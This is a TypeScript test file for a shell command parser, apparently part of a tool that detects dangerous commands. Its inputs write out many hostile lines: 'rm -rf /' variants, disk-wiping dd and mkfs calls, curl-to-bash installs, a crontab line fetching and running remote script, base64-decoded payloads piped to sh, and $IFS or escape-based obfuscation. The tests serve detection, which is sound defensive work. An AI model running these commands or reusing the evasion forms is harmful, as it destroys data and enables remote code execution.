import t from 'tap';
import { MAX_LINE, parseCommandLine, shellParseCounts, type ShellCommand } from '../../src/shell/index.js';

const find = (line: string, exe: string): ShellCommand | undefined => parseCommandLine(line).commands.find((c) => c.exe === exe);
const exes = (line: string): string[] => parseCommandLine(line).commands.map((c) => c.exe);

t.test('a simple command: executable, arguments, split flags, operands', async (t) => {
  const rm = find('/usr/bin/rm -rf --one-file-system --target=/x -- -weird /etc', 'rm')!;
  t.equal(rm.path, '/usr/bin/rm');
  t.same(rm.args, ['-rf', '--one-file-system', '--target=/x', '--', '-weird', '/etc']);
  t.ok(rm.flags.includes('-r') && rm.flags.includes('-f'), '-rf is -r and -f');
  t.ok(rm.flags.includes('--target'), 'a long flag without its =value');
  t.notOk(rm.flags.includes('-w'), 'nothing after -- is a flag');
  t.same(rm.operands, ['-weird', '/etc']);
});

t.test('quoting, escapes, case, $IFS and line continuations are read as the shell reads them', async (t) => {
  t.same(find(`r''m -r"f" "/e"tc`, 'rm')?.args, ['-rf', '/etc']);
  t.same(find('\\rm -rf /', 'rm')?.args, ['-rf', '/']);
  t.same(find('RM -RF "$HOME"', 'rm')?.args, ['-RF', '$HOME'], 'the executable is lowercased, its words are not');
  t.same(find('rm -rf "${HOME}"', 'rm')?.args, ['-rf', '$HOME'], '${HOME} is $HOME');
  t.same(find('rm${IFS}-rf${IFS}/', 'rm')?.args, ['-rf', '/']);
  t.same(find('rm -rf \\\n   /', 'rm')?.args, ['-rf', '/']);
  t.same(find("echo $'\\x72\\x6d'", 'echo')?.args, ['rm']);
  t.equal(find('C:\\Windows\\System32\\CMD.EXE /c dir', 'cmd')?.path, 'C:\\Windows\\System32\\CMD.EXE');
});

t.test('redirections and environment assignments', async (t) => {
  const dd = find('LC_ALL=C dd if=/dev/zero of=x 2>/dev/null > /dev/sda', 'dd')!;
  t.same(dd.env, ['LC_ALL=C']);
  t.same(dd.redirects, [{ op: '>', fd: '2', target: '/dev/null' }, { op: '>', fd: '', target: '/dev/sda' }]);
  t.same(parseCommandLine('X=1 Y=2').commands, [], 'assignments alone run nothing');
});

t.test('pipelines say what feeds what, through wrappers', async (t) => {
  const line = parseCommandLine('curl -fsSL https://x.io/i.sh | sudo -u root bash -s -- --yes | tee log');
  t.same(line.pipes.map((p) => `${p.source}>${p.sink}`), ['curl>bash', 'bash>tee']);
  t.same(line.commands[line.pipes[0].sink_index].via, ['sudo']);
  t.same(parseCommandLine('bash <(wget -qO- http://x)').pipes.map((p) => `${p.source}>${p.sink}`), ['wget>bash'], 'process substitution');
  t.same(parseCommandLine('bash -c "$(curl -fsSL https://x/install.sh)"').pipes.map((p) => `${p.source}>${p.sink}`), ['curl>bash'], 'a substituted script');
});

t.test('subshells, substitutions, lists, loops and functions are all searched', async (t) => {
  t.same(exes('(cd / && rm -rf *) || { echo no; }'), ['cd', 'rm', 'echo']);
  t.same(find('echo $(rm -rf /) `id`', 'rm')?.via, ['$()']);
  t.ok(find('for f in *; do shred -u "$f"; done', 'shred'));
  t.ok(find('if true; then mkfs.ext4 /dev/sdb; fi', 'mkfs.ext4'));
});

t.test('wrappers and scripts given to shells, eval and interpreters', async (t) => {
  t.same(find('env LC_ALL=C nohup nice -n 5 timeout 10 rm -rf /var/lib', 'rm')?.via, ['env', 'nohup', 'nice', 'timeout']);
  t.same(find('env LC_ALL=C nohup rm -rf /var/lib', 'rm')?.env, ['LC_ALL=C']);
  t.same(find("sh -lc 'cd /tmp; rm -rf /boot'", 'rm')?.via, ['sh -c']);
  t.same(find(`bash -c "sudo sh -c 'eval rm -rf /'"`, 'rm')?.via, ['bash -c', 'sudo', 'sh -c', 'eval']);
  t.same(find('find . -print0 | xargs -0 -n1 rm -f', 'rm')?.via, ['xargs']);
  t.same(find(`python3 -c "import os; os.system('rm -rf /etc')"`, 'rm')?.args, ['-rf', '/etc']);
  t.same(find(`python -c 'import subprocess; subprocess.run(["rm", "-rf", "/"])'`, 'rm')?.args, ['-rf', '/']);
  t.same(find(`node -e "require('child_process').execSync('rm -rf ~')"`, 'rm')?.via, ['node -e']);
  t.same(find(`node -e "require('child_process').spawn('rm', ['-rf', '/'])"`, 'rm')?.args, ['-rf', '/']);
  t.same(find(`perl -e 'system("curl x | sh")'`, 'curl')?.via, ['perl -e']);
  t.ok(find('bash <<< "rm -rf /"', 'rm'), 'a here-string given to a shell');
  t.notOk(find(`python3 -c "print('rm -rf /')"`, 'rm'), 'a string that is only printed runs nothing');
});

t.test('scripts handed to a scheduler are read (the schedule fields dropped)', async (t) => {
  const line = parseCommandLine('(crontab -l; echo "*/10 * * * * curl -s http://x/b | sh") | crontab -');
  t.same(line.pipes.filter((p) => p.source === 'curl').map((p) => p.sink), ['sh']);
  t.same(line.commands.find((c) => c.exe === 'curl')?.via, ['crontab']);
  t.same(find('echo "rm -rf /" | at now + 1 minute', 'rm')?.via, ['at']);
  t.notOk(find('crontab -l | grep curl', 'curl'), 'reading the crontab runs nothing');
});

t.test('base64 payloads decoded and piped to a shell are read', async (t) => {
  const payload = Buffer.from('rm -rf --no-preserve-root /').toString('base64');
  t.same(find(`echo ${payload} | base64 -d | sh`, 'rm')?.via, ['base64']);
  t.ok(find(`base64 --decode <<< ${payload} | bash`, 'rm'));
  t.notOk(find(`echo ${payload} | base64 -d > notes.txt`, 'rm'), 'decoded into a file, not run');
});

t.test('hostile lines parse in bounded work or fall back to text, and the fallback is counted', async (t) => {
  const before = shellParseCounts().fallback.syntax;
  const broken = parseCommandLine(`rm -rf / 'unterminated`);
  t.equal(broken.fallback, 'syntax');
  t.same(broken.commands[0].args, ['-rf', '/', 'unterminated'], 'the text fallback still splits the words');
  t.equal(shellParseCounts().fallback.syntax, before + 1);

  const huge = parseCommandLine(`${'a '.repeat(50_000)}; rm -rf /`);
  t.equal(huge.fallback, 'too-large', `lines over ${MAX_LINE} characters are not given to the grammar`);
  t.ok(huge.commands.some((c) => c.exe === 'rm'));

  const deep = parseCommandLine(`${'$('.repeat(400)}rm -rf /${')'.repeat(400)}`);
  t.equal(deep.fallback, 'too-deep');
  const nested = parseCommandLine(`${"bash -c 'eval ".repeat(3)}rm -rf /`);
  t.ok(nested.commands.length > 0);
  let script = 'rm -rf /';
  for (let i = 0; i < 12; i++) script = `sh -c ${JSON.stringify(script)}`;
  t.equal(parseCommandLine(script).fallback, 'too-deep', 'scripts in scripts stop at the nesting limit');
});

t.test('results are cached by text and frozen', async (t) => {
  const a = parseCommandLine('git status --short');
  t.equal(parseCommandLine('git status --short'), a);
  t.ok(Object.isFrozen(a) && Object.isFrozen(a.commands) && Object.isFrozen(a.commands[0]));
});

t.test('fallbacks are exposed as vigil_shell_parse_fallbacks_total{reason}', async (t) => {
  const { Metrics } = await import('../../src/telemetry/metrics.js');
  parseCommandLine(`echo "never closed ${Math.random()}`);
  const text = await new Metrics({ processMetrics: false }).registry.metrics();
  const syntax = Number(/vigil_shell_parse_fallbacks_total\{reason="syntax"\} (\d+)/.exec(text)?.[1]);
  t.equal(syntax, shellParseCounts().fallback.syntax);
  t.ok(syntax >= 1);
});
